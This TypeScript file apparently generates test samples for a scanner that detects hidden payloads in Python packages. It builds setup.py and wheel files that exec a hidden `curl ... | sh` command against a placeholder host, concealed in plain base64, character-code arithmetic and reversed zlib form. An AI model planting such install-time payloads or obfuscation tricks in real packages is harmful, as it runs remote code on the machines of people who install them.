import { deflateSync } from 'node:zlib';
import { base64, type Campaign, codes, sdist, wheel } from './kit.ts';

const PAYLOAD = "import os\nos.system('curl -s https://files.weir.test/a | sh')\n";
const packed = deflateSync(Buffer.from(PAYLOAD)).toString('base64');

export const campaign: Campaign = {
  id: 'pypi-hidden-setup',
  row: 'section 1c: strings by arithmetic, aliases of decoders, helpers, docstrings, packed lambdas',
  variants: [
    {
      concealment: 'plain',
      files: sdist(
        `"""A docstring with quotes: \\"\\"\\" """\nfrom base64 import b64decode\nexec(b64decode('${base64(PAYLOAD)}'))\nfrom setuptools import setup\nsetup(name='campaign-sample')\n`,
      ),
    },
    {
      concealment: 'obfuscated',
      files: sdist(
        `exec(''.join(map(getattr(__builtins__, 'c' + 'hr'), [${codes(PAYLOAD)
          .map((code) => `${code * 5 + 10}//5-2`)
          .join(', ')}])))\nfrom setuptools import setup\nsetup(name='campaign-sample')\n`,
      ),
    },
    {
      concealment: 'moved',
      files: wheel(
        `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'${Array.from(packed).toReversed().join('')}'))\n`,
      ),
    },
  ],
};
